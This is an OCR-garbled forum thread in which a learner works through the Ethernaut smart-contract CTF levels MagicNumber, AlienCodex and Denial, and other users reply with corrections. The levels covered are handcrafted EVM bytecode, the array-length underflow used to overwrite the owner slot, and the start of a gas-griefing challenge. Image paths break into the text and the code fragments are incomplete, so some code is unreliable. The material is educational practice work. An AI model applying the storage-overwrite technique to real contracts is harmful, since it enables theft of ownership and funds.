My Coding Journey: From Finance to Smart Contract Auditor

Day 31:

To solve this level, you only need to provide the Ethernaut with a Solver, a contract that responds to whatIsTheMeaningOfLife() with the right number. BUT the solver's code needs to be really tiny (10 opcodes at most).


// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

contract MagicNum {

  address public solver;

  constructor() {}

  function setSolver(address _solver) public {
    solver = _solver;



  • the function setSolver takes an address type of another contract called 'solver' (whereby the contract returns 42 when the function whatIsTheMeaningOfLife called; and
  • the user then calls the solver function to enter the magic number.

As these challenges have become more complex I need more than an evening to solve them. The complexity with this solution is I will have to write a bytecode contract that is outside of the regular remix IDE I've previously been using. I'd note for those wondering: why can't you simply deploy a contract with the following code and bedone?:

functionwhatIsTheMeaningOfLife() external pure returns (uint) {
return 42;

Well the real issue at play here is by entering '42' via this methodology, it does not apply to the opcode specification. So the real challenge is actually creating code outside the compiler (i.e. a via byte contract) and obtaining a better understanding of working with bytecode. As a starting point I've started to look at Solidity byexample and found the following contract:

// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

contract Factory{
    event Log(address addr);

    // Deploys a contract that always returns 42
    function deploy() external {
        bytes memory bytecode = hex"69602a60005260206000f3600052600a6016f3";
        address addr;
        assembly {
            // create(value, offset, size)
            addr := create(0, add(bytecode, 0x20), 0x13)
        require(addr != address(0));

        emit Log(addr);interface IContract {
    function getMeaningOfLife() external view returns (uint);

Run time code - return 42

// Store 42 to memory
mstore(p, v) - store v at memory p to p + 32

PUSH1 0x2a

// Return 32 bytes from memory
return(p, s) - end execution and return data from memory p to p + s

PUSH1 0x20

Creation code - return runtime code

// Store run time code to memory
PUSH10 0X602a60005260206000f3// Return 10 bytes from memory starting at offset 22
PUSH1 0x0a
PUSH1 0x16

I will be looking to manipulate the above and post the solution in the coming days!

First of all, make up your mind regarding which function is it:

Second, note that it doesn't really matter which one it is, because the contract created with this:

Doesn't implement either one of them.

In fact, it doesn't implement any function whatsoever.So any of the following ways to call that contract from a function inthe MagicNum contract would achieve the same (desired) result:

interface IContract1 {
    function whatIsTheMeaningOfLife() external pure returns (uint);

interface IContract2 {
    functiongetMeaningOfLife() external pure returns (uint);

contract MagicNum {
    address public solver;


    function getResult1() external viewreturns (uint256) {
        return IContract1(solver).whatIsTheMeaningOfLife();

    function getResult2() external view returns (uint256) {
        return IContract2(solver).getMeaningOfLife();

    function getResult3() external view returns (uint256) {
        (bool success, bytes memory data) = solver.staticcall("");
        return uint256(bytes32(data));

Day 32:

I learnt alot with this challenge and it was more complex than I initially thought. I've tried to keep my findings brief and high level so not to confuse myself and others. Feel free to add where necessary!! Being from a non-traditional background I had to work a bit harder at understanding some core concepts but I've outlined all my notes below in addition to arriving at the solution for the MagicNumber Ethernaut challenge.


  • Understanding assembly programming for this challenge is a must. For those unfamiliar with the Ethereum Virtual Machine (EVM), a contract is created via the following steps:
  1. an account sends a create contract transaction (i.e. we write a smart contract in Solidity);
  2. EVM compiles the contract into bytecode (translating the contract into a form that is readable to the Ethereum interpreter);
  3. bytecode is then loaded onto the stack with a clear distinction being made between the contract's initialisation instructions and the contract's execution logic;
  4. the EVM initialises the contract based on initialisation instructions (i.e. contract at address 0xa93...); and
  5. the EVM stores the returned opcode to state storage.
  • tying the above to the challenge - you will need to create a contract that will be run immediately on the EVM and create a intialisation / runtime opcode that will execute the actual logic we want - i.e. that 42 will be returned and being less than 10 opcodes;
  • the EVM is also a Stack Machine - in short, it operates on a last in first out basis, which is similar to companies that store widgets in a big warehouse with lazy workers. The workers come in and just pull the first thing they see and load it onto the truck;
  • the act of putting data in the stack is called the “PUSH” instruction and removing data from the stack is called the “POP” instruction. “PUSH1"means putting 1 byte of data into the stack so PUSH1 0x42 means putting a 1 byte value of 0x42 in the stack (noting that PUSH can be denoted as 60 via bytecode rather than 0x for hex); and
    *opcode mappings can be found here.


  • Returning values is handled by the RETURN opcode. It takes two variables (the position a value is stored in memory - meaning we will need to use 'memory' somewhere in our smart contract solution) and size (which we will say is 32 bytes long, which a quick google reveals is 0x20 in hex);
  • the runtime code is 602a60005260206000f3. Breaking this down:
  1. push 2a (hexadecimal) = 42 (decimal) to the stack;
  2. push 00 to the stack;
  3. mstore(0, 2a) , store 2a = 42 at memory position 0;
  4. push 20 (hexadecimal) = 32 (decimal) to the stack (for 32 bytes of data);
  5. push 00 to the stack; and
  6. return(memory position, number of bytes), return 32 bytes stored in memory position 0.
  • Creation code will require you to store the above using 10 bytes in memory at position 0, padding the opcode with 22 0s on the left to form a 32 byte long bytestring. It will then have to return the stack via the following: 69602a60005260206000f3600052600a6016f3.

the final result is a contract with the following:

> var account = "your address here";
> var bytecode = "0x600a600c600039600a6000f3604260805260206080f3";
> web3.eth.sendTransaction({ from: account, data: bytecode }, function(err,res){console.log(res)});

then use the Ethernaut web console to call: '
await contract.setSolver("contract address");No, the compiler does that.
When you send the contract-deployment transaction, it already includes the compiled contract's byte-code (typically, in the transaction's data attribute).

  1. When you see '60' in the bytecode, that's actually 0x60, since the bytecode is already denoted in hexadecimal base. So 0x60 thru 0x7F are the opcodes for PUSH1 thru PUSH32 respectively. For all it matters (and i'm not saying that it does), the equivalent decimal values are 96 thru 127.

  2. The value requested in your original question is 42, not 0x42. That value - 0x2a - is easily observable in your bytecode. For all it matters (and i'm not saying that it does), the equivalent decimal value of 0x42 is 66.

1 LikeDay 33:

You've uncovered an Alien contract. Claim ownership to complete the level. Building on OZ's explanation of the problem, to solve this challenge a user will need to grasp the concept of dynamic arrays and how their slot packing works, along with overflows and underflows. I've unpacked both of these topics above in previous posts.


// SPDX-License-Identifier: MIT
pragma solidity ^0.5.0;

import '../helpers/Ownable-05.sol';

contract AlienCodex is Ownable {

  bool public contact;
  bytes32[] public codex;

  modifier contacted() {
  function makeContact() public {contact = true;

  function record(bytes32 _content) contacted public {

  function retract() contacted public {

  function revise(uint i, bytes32 _content) contacted public {
    codex[i] = _content;

Code Breakdown

  • the version of Solidity is 0.5.0 so we should remain alert to historical issues in this version (see historical bugs here);
  • the import of an ownable contract means we need to check the OZ documentation to ensure that 1) storage slots correctly align to and, 2) do a quick skim to see if functions we have modified (i.e. transfer locks like in day 27;
  • the contract is called AlienCodex and inherits properties from the OZ Ownable contract;
  • 'bool public contact' will be set to true if the makeContract function is called;
  • 'bytes32 public codex' stores a 32byte array in a variable called codex;
  • the 'contacted' modifier uses assert to check the status of 'contact'. Assert is an important point provided it is used to check for code errors, but errors such as integer overflows / underflows, not user inputs / enforcement of preconditions. If in this example, contact == false, the contract will immediately stop executing and any state changes made so far will be rolled back;
  • the record function takes _content in the form of 32bytes and pushes it to the codex array. Note that this checks the modifier to see if a user has been contacted;
  • the function 'retract' subtracts from the codex array;and
    the function 'revise' takes a uint and thepreviously mentioned _content and on input looks through the _content stored in the contract and displays it.

As suggested above, looking to OZ's ownable contract, you'll notice that address private _owner is in slot 0 meaning both 'bool public contact' and 'address private _owner' are in slot 0...herein lies the problem.

To satisfy the modifier that you've established contact, call the makeContact function. Given safeMath had to be explicitly implemented into earlier Solidity versions, if you were to call the retract() function, the codex.length is decreased by one causing underflow (i.e. reverting to the total storage capacity of the contract). The practical effect is the ability to access any and all variables stored in the contract. So what I did was convert my address to a 32byte so it conforms with the _content specifications, and updated the value of _owner (in the OZ contract) with my address.

That's a fair point, thank you for clarifying!

1 Like

That's not true as far as I know; here is a short example to prove it...

Contract Code:

contract Base {
    uint256 public x = 42;

contract Derived is Base {
    uint256 public y = 53;

Truffle Test:

const Derived = artifacts.require("Derived");contract("test", () => {
    it("test", async () => {
        const derived = await;
        const slot1 = await web3.eth.getStorageAt(derived.address, 0);
        const slot2 = await web3.eth.getStorageAt(derived.address, 1);



The only reason why address _owner and bool contact are in the same slot is that they occupy a total of 168 bits, which fit into a single (256-bit) slot. But they do not override each other in any way, as implied in your "herein lies the problem" statement.

BTW, even from a "naive" perspective (i.e., without conducting the test above), think how catastrophic it would be for the entire inheritance paradigm, if the variables in a contract were overridden by the variables in a contract which inherited it.

The onlyplace where storage-override requires careful handling is upon upgrading adeployed contract, typically using OpenZeppelin Contract Upgrade Scheme; and I cannot quite see how the task at hand has anything to do with that whatsoever.

It is worth noting that as of solc v0.6.0, this "hack" is no longer viable:

Syntax: length member of arrays is now always read-only, even for storage arrays.

Using solc v0.6.0 or higher for the code above, you'd get a compilation error:

Member "length" is read-only and cannot be used to resize arrays

The only ways to impact the length of dynamic arrays in solidity are via:

  • The push keyword (increment the length of the array by one)• The pop keyword (decrement the length of the array by one)
  • The delete keyword (reset the length of the array to zero)

And of course, pop reverts when the length of the array is already zero.
So the overflow-trick that this challenge relies on is no longer viable in solidity.

You can still achieve that "hack" in your contract, but you'd need toimplement it in assembly.

There are 4 different array types to handle:

  • A dynamic array in storage, for example, uint256[] public arr
  • A dynamic array in memory, for example, uint256[] memory arr
  • A static array in storage, for example, uint256[10] public arr
  • A static array in memory, for example, uint256[10] memory arr

For a dynamic array in storage, you can use either one of the following options:

  • assembly { sstore(arr.slot, new_length) }
  • assembly { sstore(arr.offset, new_length) }For a dynamic array in memory, you can use the following option:

  • assembly { mstore(arr, new_length) }

For a static array, whether it's in storage or in memory, I'm not too sure how to achieve that...

1 Like

Day 34:

This is a simple wallet that drips funds over time. You can withdraw the funds slowly by becoming a withdrawing partner. If you can deny the owner from withdrawing funds when they call withdraw() (whilst the contract still has funds, and thetransaction is of 1M gas or less) you will win this level.


// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;
contract Denial {

    address public partner; // withdrawal partner - pay the gas, split the withdraw
    address public constant owner = address(0xA9E);
    uint timeLastWithdrawn;
    mapping(address => uint) withdrawPartnerBalances; // keep track of partners balances

    function setWithdrawPartner(address _partner) public {
        partner = _partner;

    // withdraw 1% to recipient and 1% to owner
    function withdraw() public {
        uint amountToSend = address(this).balance / 100;
        // perform a call without checking return
